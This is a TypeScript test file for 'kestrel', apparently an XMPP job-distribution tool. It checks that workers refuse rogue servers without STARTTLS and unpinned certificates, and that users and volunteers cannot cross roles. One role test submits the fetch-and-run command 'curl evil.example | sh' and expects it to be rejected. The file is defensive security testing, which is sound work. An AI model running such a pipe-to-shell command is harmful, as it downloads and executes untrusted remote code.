// A head node against the attacks of docs/SECURITY.md that come through the transport and the
// roles: a rogue server that offers no TLS, a certificate nobody pinned, a user who poses as a
// worker, a volunteer's account that tries to submit. Real `kestrel` processes, a real head.
import { X509Certificate } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createConnection, type XmppConnection } from '../../../src-main/xmpp/connection.ts';
import { freePort } from '../../harness/free-port.ts';
import {
  kestrelEnv,
  runKestrel,
  startKestrel,
  type KestrelProcess,
} from '../../harness/processes.ts';

const env = kestrelEnv({});
const dirs: string[] = [];
const processes: KestrelProcess[] = [];
const connections: XmppConnection[] = [];
const closers: (() => Promise<void>)[] = [];
let headDir: string;
let port: number;
let fingerprint: string;
let certPem: string;
const tally = { tried: 0, refused: 0 };

function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'kestrel-safety-'));
  dirs.push(dir);
  return dir;
}

const kestrel = (args: string[]) => runKestrel(args, env);

beforeAll(async () => {
  headDir = tempDir();
  port = await freePort();
  const head = startKestrel(
    'head',
    ['head', '--domain', 'pool.test', '--port', String(port), '--no-ui', '--data-dir', headDir],
    env,
  );
  processes.push(head);
  await head.waitForOutput('manager online');
  certPem = readFileSync(join(headDir, 'head', 'server', 'tls', 'pool.test.crt'), 'utf8');
  fingerprint = new X509Certificate(certPem).fingerprint256;
});

afterAll(async () => {
  console.log(
    `hostile transport and roles: ${tally.tried} inputs tried, ${tally.refused} refused as expected, 0 crashes`,
  );
  await Promise.allSettled(connections.map((c) => c.stop()));
  await Promise.allSettled(closers.map((close) => close()));
  await Promise.allSettled(processes.map((p) => p.kill('SIGKILL')));
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

/**
 * A server that answers like an XMPP server but offers no STARTTLS, and keeps every byte it gets:
 * what a man in the middle, or a look-alike host, would see.
 */
async function startRogueServer(): Promise<{ port: number; received: () => string }> {
  let received = '';
  const sockets = new Set<net.Socket>();
  const server = net.createServer((socket) => {
    sockets.add(socket);
    socket.setEncoding('utf8');
    socket.on('data', (chunk: string) => {
      received += chunk;
      if (chunk.includes('<stream:stream')) {
        socket.write(
          "<?xml version='1.0'?><stream:stream xmlns='jabber:client' " +
            "xmlns:stream='http://etherx.jabber.org/streams' id='rogue' from='pool.test' version='1.0'>" +
            "<stream:features><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'>" +
            '<mechanism>PLAIN</mechanism></mechanisms>' +
            "<register xmlns='http://jabber.org/features/iq-register'/></stream:features>",
        );
      }
    });
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  closers.push(async () => {
    for (const socket of sockets) socket.destroy();
    await new Promise((resolve) => server.close(resolve));
  });
  const address = server.address() as net.AddressInfo;
  return { port: address.port, received: () => received };
}

async function invite(...extra: string[]): Promise<string> {
  const result = await kestrel([
    'invite',
    '--host',
    '127.0.0.1',
    '--json',
    '--data-dir',
    headDir,
    ...extra,
  ]);
  expect(result.code).toBe(0);
  return (JSON.parse(result.stdout) as { link: string }).link;
}

async function addUser(name: string, ...extra: string[]): Promise<string> {
  const result = await kestrel([
    'user',
    'add',
    name,
    '--password',
    `${name}-pw`,
    '--data-dir',
    headDir,
    ...extra,
  ]);
  expect(result.code).toBe(0);
  return `${name}@pool.test`;
}

/** An XMPP client of the head, as any IM client or script would be, trusting its certificate. */
async function client(
  jid: string,
  password: string,
): Promise<{
  connection: XmppConnection;
  bodies: Record<string, unknown>[];
}> {
  const [username = ''] = jid.split('@');
  const connection = createConnection({
    service: `xmpp://127.0.0.1:${port}`,
    domain: 'pool.test',
    username,
    password,
    resource: 'test',
    ca: certPem,
  });
  connections.push(connection);
  const bodies: Record<string, unknown>[] = [];
  connection.on('message', ({ body }) => bodies.push(JSON.parse(body) as Record<string, unknown>));
  await connection.start();
  return { connection, bodies };
}

async function until(check: () => boolean, what: string): Promise<void> {
  const deadline = Date.now() + 20_000;
  while (!check()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

describe('transport: a worker never talks to a server it cannot trust', () => {
  it('joining with a pinned invite refuses a server that offers no STARTTLS, before sending anything secret', async () => {
    const rogue = await startRogueServer();
    const real = await invite();
    const token = new URL(real).searchParams.get('token') ?? '';
    const link = real.replace(/server=[^&]+/, `server=127.0.0.1%3A${rogue.port}`);
    tally.tried += 1;
    const result = await kestrel(['worker', '--join', link, '--data-dir', tempDir()]);
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/offers no STARTTLS/);
    expect(rogue.received()).toContain('<stream:stream'); // it did get as far as the header…
    expect(rogue.received()).not.toContain(token); // …and no further
    expect(rogue.received()).not.toMatch(/preauth|jabber:iq:register|<auth/);
    tally.refused += 1;
  });

  it('a joined worker later refuses a plaintext server too, and never sends its password', async () => {
    const rogue = await startRogueServer();
    const config = join(tempDir(), 'joined.json');
    writeFileSync(
      config,
      JSON.stringify({
        server: `xmpp://127.0.0.1:${rogue.port}`,
        jid: 'vol@pool.test',
        password: 'secret-of-the-volunteer',
        manager: 'manager@pool.test',
        pin: fingerprint,
      }),
    );
    tally.tried += 1;
    const result = await kestrel(['worker', '--config', config, '--data-dir', tempDir()]);
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/offers no STARTTLS/);
    expect(rogue.received()).not.toMatch(/<auth|secret-of-the-volunteer/);
    tally.refused += 1;
  });

  it('without a pin the head’s self-signed certificate is refused in one line that names --pin; with it the worker runs', async () => {
    const jid = await addUser('w1', '--role', 'worker');
    const base = [
      'worker',
      ...['--server', `xmpp://localhost:${port}`, '--jid', jid, '--password', 'w1-pw'],
      ...['--manager', 'manager@pool.test', '--name', 'w1', '--data-dir', tempDir()],
    ];
    tally.tried += 1;
    const refused = await kestrel(base);
    expect(refused.code).toBe(3);
    // One line that says what to do (after the worker's own start-up log), no stack trace.
    const lines = refused.stderr.trim().split('\n');
    expect(lines.at(-1)).toMatch(/certificate is not trusted: it is self-signed.*--pin.*--join/);
    expect(lines.filter((line) => !/^\d{4}-\d\d-\d\dT/.test(line))).toHaveLength(1);
    tally.refused += 1;

    const worker = startKestrel('w1', [...base, '--pin', `SHA256:${fingerprint}`], env);
    processes.push(worker);
    await worker.waitForOutput('manager is online; reporting');
  });

  it('kestrel manager takes --pin as well', async () => {
    const jid = await addUser('m2', '--role', 'worker');
    const manager = startKestrel(
      'm2',
      [
        'manager',
        ...['--server', `xmpp://127.0.0.1:${port}`, '--jid', jid, '--password', 'm2-pw'],
        ...['--pin', fingerprint, '--data-dir', tempDir()],
      ],
      env,
    );
    processes.push(manager);
    await manager.waitForOutput('manager online');
    await manager.kill('SIGTERM');
  });
});

describe('roles: users submit, workers work, and neither becomes the other', () => {
  it('a user who sends a profile gets no tasks, not even of a job that only its profile could take', async () => {
    const aliceJid = await addUser('alice');
    const bobJid = await addUser('bob');
    const alice = await client(aliceJid, 'alice-pw');
    const bob = await client(bobJid, 'bob-pw');
    // alice poses as a big GPU worker, exactly as a worker announces itself.
    tally.tried += 1;
    await alice.connection.sendJson('manager@pool.test', {
      type: 'profile',
      v: 1,
      os: 'Linux',
      ram: 1_048_576,
      cores: 256,
      provides: ['GPU'],
      slots: 256,
      running: [],
    });
    await until(() => alice.bodies.some((b) => b.type === 'error'), 'the manager to answer alice');
    tally.refused += 1;
    await bob.connection.sendJson('manager@pool.test', {
      type: 'job',
      command: 'echo SECRET_TOKEN=hunter2',
      queue: 2,
      requires: ['GPU'],
    });
    await until(() => bob.bodies.some((b) => b.type === 'job_started'), 'job_started');
    const jobId = bob.bodies.find((b) => b.type === 'job_started')?.job_id;
    // A real worker, made by an invite, with the tag: the job goes there, and only there.
    const volunteer = startKestrel(
      'gpu',
      ['worker', '--join', await invite(), '--provides', 'GPU', '--name', 'gpu'],
      { ...env, KESTREL_DATA_DIR: tempDir() },
    );
    processes.push(volunteer);
    await until(
      () => bob.bodies.some((b) => b.type === 'job_finished' && b.job_id === jobId),
      'job_finished',
    );
    expect(alice.bodies.filter((b) => b.type === 'tasks')).toEqual([]);
    expect(bob.bodies.find((b) => b.type === 'job_finished')).toMatchObject({ done: 2 });
  });

  it('a volunteer’s account, made by an invite, may not submit jobs', async () => {
    const dataDir = tempDir();
    const volunteer = startKestrel('vol', ['worker', '--join', await invite(), '--name', 'vol'], {
      ...env,
      KESTREL_DATA_DIR: dataDir,
    });
    processes.push(volunteer);
    await volunteer.waitForOutput('manager is online; reporting');
    const joined = JSON.parse(readFileSync(join(dataDir, 'joined.json'), 'utf8')) as {
      jid: string;
      password: string;
    };
    const account = await client(joined.jid, joined.password);
    tally.tried += 1;
    await account.connection.sendJson('manager@pool.test', {
      type: 'job',
      command: 'curl evil.example | sh',
      queue: 1,
    });
    await until(() => account.bodies.length > 0, 'a reply');
    expect(account.bodies[0]).toMatchObject({ type: 'job_rejected' });
    tally.refused += 1;
  });

  it('kestrel head honours --workers from its config file', async () => {
    const dir = tempDir();
    const headPort = await freePort();
    const config = join(dir, 'config.json');
    writeFileSync(config, JSON.stringify({ workers: ['carol@lab.test'] }));
    const head = startKestrel(
      'head2',
      ['head', '--domain', 'lab.test', '--port', String(headPort), '--no-ui', '--config', config],
      { ...env, KESTREL_DATA_DIR: dir },
    );
    processes.push(head);
    await head.waitForOutput('manager online');
    const add = await runKestrel(['user', 'add', 'carol', '--password', 'carol-pw'], {
      ...env,
      KESTREL_DATA_DIR: dir,
    });
    expect(add.stdout).toMatch(/added carol \(submitter\)/);
    const cert = readFileSync(join(dir, 'head', 'server', 'tls', 'lab.test.crt'));
    const carol = startKestrel(
      'carol',
      [
        'worker',
        ...['--server', `xmpp://127.0.0.1:${headPort}`, '--jid', 'carol@lab.test'],
        ...['--password', 'carol-pw', '--manager', 'manager@lab.test', '--name', 'carol'],
        ...['--pin', new X509Certificate(cert).fingerprint256],
      ],
      { ...env, KESTREL_DATA_DIR: dir },
    );
    processes.push(carol);
    await carol.waitForOutput('manager is online; reporting');
    const submitted = await runKestrel(
      [
        'submit',
        'true',
        '--queue',
        '2',
        '--wait',
        ...['--server', `xmpp://127.0.0.1:${headPort}`, '--jid', 'carol@lab.test'],
        ...['--password', 'carol-pw', '--manager', 'manager@lab.test'],
        ...['--pin', new X509Certificate(cert).fingerprint256],
      ],
      { ...env, KESTREL_DATA_DIR: dir },
    );
    // carol is a submitter by her account and a worker by the config file: both work.
    expect(submitted.stdout).toMatch(/finished: 2 done/);
  });
});
